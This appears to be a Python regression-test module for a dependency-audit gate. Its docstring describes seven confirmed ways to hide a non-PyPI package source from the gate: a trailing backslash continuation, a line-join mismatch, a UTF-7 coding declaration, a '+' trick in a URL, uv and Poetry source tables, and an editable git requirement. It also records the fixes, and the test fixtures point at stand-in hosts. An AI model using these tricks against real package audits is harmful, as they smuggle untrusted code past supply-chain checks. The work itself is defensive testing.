"""A fortieth hostile review of `gate check`, on the code written for review 39: pip's
requirements-file options read by optparse (gate.bundle.manifests.pipoptions
`read_line`), the requirements reader around it (requirements `_requirements`,
`_logical_lines`, `_classify_line`, `classify_requirement`), GATE-DEP-002 for a
requirement downloaded from elsewhere than PyPI (indexes `from_elsewhere`), uv's and
PDM's settings (`pyproject_indexes`, `read_uv_toml`, `files_elsewhere`), and the layers
every declared layer's ignored folders bring back.

Each attack is a confirmed problem, marked strict xfail until it is fixed: the tricked
bundle exits 0 with the hostile harness's policy (checkov off), and the baseline (one
run of every bundle without its trick) blocks on GATE-DEP-002. What the installers do
was run: pip 26.3 (`pip install --dry-run`, which prints the indexes it looks in, or the
URL it fetches) for 1-4 and 7; uv 0.13.9 (`uv lock`, `uv pip compile pyproject.toml`)
for 5; Poetry 2.5.1 (`poetry lock`) for 6; each failing to reach the server the trick names
(pypi.example.net, git.example.net). What lets each through:

1. A continuation on a requirements file's last line. `_logical_lines` keeps a line
   ending in `\\` pending for the next one, and drops it when the file ends; pip's
   `join_lines` yields it ("last line contains \\"), its backslash stripped:
   `six==1.16.0` then `--extra-index-url https://pypi.example.net/simple \\` as the
   last line: pip printed `Looking in indexes: https://pypi.org/simple,
   https://pypi.example.net/simple`; the gate read no index at all.
2. A continuation joined with a space. `_logical_lines` joins a continued line to the
   next with `" "`; pip's `join_lines` joins them with nothing (`"".join`, each part's
   backslashes stripped). `--index-url https://pypi.org\\` then `.example.net/simple`:
   pip reads `--index-url https://pypi.org.example.net/simple` (printed as its only
   index); the gate reads `https://pypi.org` (PyPI) and a stray word optparse leaves
   over (`read_line` ignores what `parse_args` does not consume, as pip does). Any
   word split over two lines is read as two words.
3. A PEP 263 coding declaration. pip decodes a requirements file by its BOM, else by a
   `coding:` comment in its first two lines (`_decode_req_file`), before it splits the
   lines; `_requirements` reads UTF-8 always. `# -*- coding: utf-7 -*-`, then
   `six==1.16.0 #+AAo---extra-index-url https://pypi.example.net/simple`: to the gate
   a pin and a comment; to pip `+AAo-` is a line break, and the next line is the extra
   index (pip printed it, and took six's line as line 2).
4. A `+` in a direct URL. `from_elsewhere` takes the host of what follows the URL's
   first `+` (meant for `git+https://`), so `six @ https://pypi.example.net/six-1.16.0-
   py2.py3-none-any.whl?+https://files.pythonhosted.org/` is judged by
   files.pythonhosted.org, a file of PyPI's: GATE-DEP-001, medium ("URL requirement").
   pip fetches the wheel from pypi.example.net (it tried).
5. uv's per-package sources. `[tool.uv.sources]` is not read (`read_pyproject`,
   `pyproject_indexes`): `dependencies = ["six==1.16.0"]` is a pin of PyPI's six to the
   audit, and `[tool.uv.sources] six = { url = "https://pypi.example.net/..." }` (or
   `{ git = ... }`) is what uv installs (`uv lock` and `uv pip compile pyproject.toml`
   both fetched the URL, and cloned the repository). The same table's `path` (a wheel
   of the bundle) was refused here only because the gate refuses the zip itself.
6. Poetry 2's enriching table. `_poetry_tables` skips `[tool.poetry.dependencies]`
   when `[project].dependencies` is set ("it only adds detail"); the detail it adds may
   be the source: `six = { git = "https://git.example.net/evil/six.git" }` beside
   `dependencies = ["six==1.16.0"]` made `poetry lock` clone the repository; the gate
   audits PyPI's six 1.16.0.
7. An editable requirement from a repository. `_classify_line` reports `-e
   git+https://git.example.net/evil/six.git#egg=six` as "editable requirement"
   (GATE-DEP-001, medium) without `from_elsewhere`, while `six @ git+https://...` is
   GATE-DEP-002 since review 39's fix 4; pip clones and installs it (`pip install -t`
   and `pip download` both tried to clone).

Suggested fixes, by class. 1-3, read the file as pip's own preprocessing does, in its
order (copied from pip's req_file, not imported): decode by BOM, then a PEP 263
declaration in the first two lines (or refuse any file whose bytes are not plain UTF-8
without one, and any declared coding other than utf-8/ascii), `splitlines`, then
`join_lines` exactly (parts stripped of backslashes at both ends, joined with nothing,
a last continued line kept, a comment line ending a continuation), then comments, then
the options. 4, judge a URL's host by `urlsplit` of the URL with only a VCS prefix
(`^(git|hg|svn|bzr)\\+`) removed; never split at an arbitrary `+`. 5 and 6, read every
per-package source an installer honours: `[tool.uv.sources]` (`url`, `git`, `path`,
`index`, `workspace`; lists of them with markers), Poetry's tables whether or not
`[project]` has dependencies, PDM's none (PEP 508 only); a source other than PyPI is
GATE-DEP-002, a local one refused or judged as `six @ ./x` is. 7, pass an editable's
URL through `from_elsewhere` as a requirement's (a remote one is GATE-DEP-002, a local
one stays what it is).

Also tried, and the gate held: credentials in a uv.lock wheel URL's user info, a direct
URL's query (`?token=`), a `git+https://x-access-token:...@github.com/` requirement and
an index URL's query, in console, json, sarif, junit, markdown and github formats (none
printed); a requirements file in UTF-16 with its BOM (refused: its lines are not valid
requirements to the gate); a bare wheel file name as a requirement
(`six-1.16.0-py3-none-any.whl`, which pip installs from its working directory) and uv's
`{ path = "six-...whl" }` (refused: the wheel of the bundle is a zip in the function's
code); a CloudFormation `AWS::Lambda::LayerVersion` with `Content: layer/` whose
`python/` is a virtualenv to the built-in rule, the function's code a zip importing its
helper (B605: the declared layer is brought back).
Read, not run: `pipCmdExtraArgs` items the plugin splits with `split(/\\s+/, 2)`,
dropping any third word, or at `\\ufeff`, which JavaScript's `\\s` holds and Python's
`str.split` does not: the gate sees every word the plugin passes and more, and refuses any
word it does not know, so no arrangement found left pip an index the gate did not see.

False refusals seen: a requirements.txt saved with a UTF-8 BOM (Windows editors,
PowerShell's `Out-File -Encoding utf8` before PowerShell 6) is refused: `\\ufeffsix==1.16.0`
is "not a valid requirement" to the gate, while pip strips the BOM (`_decode_req_file`).

Not covered: pip's `${VAR}` expansion (the bundle does not choose the runner's
variables); `-C`/`--pypi-url`, options pip knows that `read_line` does not (refused: a
problem, not a bypass); Terraform's and Serverless's `_untied_layers`, `--diff-base`,
`--policy-ref`, waivers and baselines were not attacked for lack of time; the EBCDIC
form of 3 (`# coding: cp037`) was not built.

Fixed, each by its class. 1, 2 and 3, a requirements file is decoded and split into
logical lines as pip does it (its req_file `auto_decode`, `join_lines`, then
`ignore_comments`): a UTF-8 BOM dropped, a declared encoding honoured (another BOM, an
unknown encoding or bytes that are not the encoding's refused), a `\\` continuation
joined with nothing between, even on the last line, comments removed after the joining
(gate.bundle.manifests.requirements `_decoded`, `_logical_lines`). 4, only a VCS
prefix (`git+`) is taken off a URL before its host is judged (gate.bundle.manifests
.indexes `from_elsewhere`). 5 and 6, uv's `[tool.uv.sources]` and Poetry 2's
`[tool.poetry.dependencies]` beside `[project].dependencies` are read for every
dependency they take from elsewhere than an index (gate.bundle.manifests.declared
`_sources_of_project_dependencies`). 7, an editable from a server or repository is
GATE-DEP-002, and one from an archive or repository of the disk is refused. The BOM's
false refusal is gone with 3.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from tests.hostile.conftest import Sandbox, each_blocked_or_refused, each_blocks

Layout = Callable[[Sandbox], None]

INDEX = "https://pypi.example.net/simple"
WHEEL_URL = "https://pypi.example.net/packages/six-1.16.0-py2.py3-none-any.whl"
GIT_URL = "https://git.example.net/evil/six.git"
HARMLESS = "def handler(event, context):\n    return {'ok': True}\n"
SAM = (
    "AWSTemplateFormatVersion: '2010-09-09'\nTransform: AWS::Serverless-2016-10-31\n"
    "Resources:\n  OrdersFunction:\n    Type: AWS::Serverless::Function\n    Properties:\n"
    "      CodeUri: src/\n      Handler: app.handler\n      Runtime: python3.12\n"
    "      Tracing: Active\n"
)
PROJECT = (
    '[project]\nname = "orders"\nversion = "1.0.0"\nrequires-python = ">=3.12"\n'
    "dependencies = [{dependency}]\n"
)


def sam_files(files: dict[str, str | bytes]) -> Layout:
    """A SAM function in src/ with `files` beside it."""

    def layout(sandbox: Sandbox) -> None:
        sandbox.write("template.yaml", SAM)
        sandbox.write("src/app.py", HARMLESS)
        for relative, text in files.items():
            sandbox.write(relative, text)

    return layout


def requirements(text: str | bytes) -> Layout:
    return sam_files({"src/requirements.txt": text})


def project(dependency: str, settings: str = "") -> Layout:
    return sam_files({"src/pyproject.toml": PROJECT.format(dependency=dependency) + settings})


NAMED = requirements(f"--extra-index-url {INDEX}\nsix==1.16.0\n")
REPLACED = requirements(f"--index-url {INDEX}\nsix==1.16.0\n")
DIRECT = requirements(f"six @ {WHEEL_URL}\n")
FROM_GIT = requirements(f"six @ git+{GIT_URL}\n")
PINNED = '"six==1.16.0"'
# name: (the bundle without the trick, its rule; the bundle with it; what lets it through)
TRICKS: dict[str, tuple[Layout, str, Layout, str]] = {
    "1-last-line-continued": (
        NAMED, "GATE-DEP-002", requirements(f"six==1.16.0\n--extra-index-url {INDEX} \\\n"),
        "_logical_lines drops a continued line the file ends on; pip reads it"),
    "2-continuation-joined-with-space": (
        REPLACED, "GATE-DEP-002",
        requirements("--index-url https://pypi.org\\\n.example.net/simple\nsix==1.16.0\n"),
        "_logical_lines joins with a space; pip joins with nothing"),
    "3-utf7-coding-declaration": (
        NAMED, "GATE-DEP-002",
        requirements(f"# -*- coding: utf-7 -*-\nsix==1.16.0 #+AAo---extra-index-url {INDEX}\n"),
        "_requirements reads UTF-8; pip decodes by the PEP 263 declaration"),
    "4-plus-in-direct-url": (
        DIRECT, "GATE-DEP-002",
        requirements(f"six @ {WHEEL_URL}?+https://files.pythonhosted.org/\n"),
        "from_elsewhere judges the host after the URL's first +"),
    "5a-uv-source-url": (
        project(f'"six @ {WHEEL_URL}"'), "GATE-DEP-002",
        project(PINNED, f'\n[tool.uv.sources]\nsix = {{ url = "{WHEEL_URL}" }}\n'),
        "[tool.uv.sources] is not read"),
    "5b-uv-source-git": (
        project(f'"six @ git+{GIT_URL}"'), "GATE-DEP-002",
        project(PINNED, f'\n[tool.uv.sources]\nsix = {{ git = "{GIT_URL}" }}\n'),
        "[tool.uv.sources] is not read"),
    "6-poetry-enriching-table": (
        project(f'"six @ git+{GIT_URL}"'), "GATE-DEP-002",
        project(PINNED, f'\n[tool.poetry.dependencies]\nsix = {{ git = "{GIT_URL}" }}\n'),
        "_poetry_tables skips tool.poetry.dependencies beside [project].dependencies"),
    "7-editable-from-git": (
        FROM_GIT, "GATE-DEP-002", requirements(f"-e git+{GIT_URL}#egg=six\n"),
        "_classify_line's editables never reach from_elsewhere: GATE-DEP-001, medium"),
}  # fmt: skip


def test_the_source_each_trick_hides_blocks(tmp_path: Path) -> None:
    """The baselines, in one run of every bundle: the same source, named plainly."""
    each_blocks(tmp_path, {name: (case[0], case[1]) for name, case in TRICKS.items()})


def test_what_the_installer_fetches_is_judged(tmp_path: Path) -> None:
    """The installer fetches from the server the trick names; no run may pass."""
    each_blocked_or_refused(tmp_path, {name: case[2] for name, case in TRICKS.items()})


def test_a_requirements_file_with_a_utf8_bom_is_read(sandbox: Sandbox) -> None:
    """pip strips a UTF-8 BOM: a pinned requirement behind one is no refusal."""
    requirements("\ufeffsix==1.16.0\n")(sandbox)
    run = sandbox.run()
    assert run.code in (0, 1), run.stderr
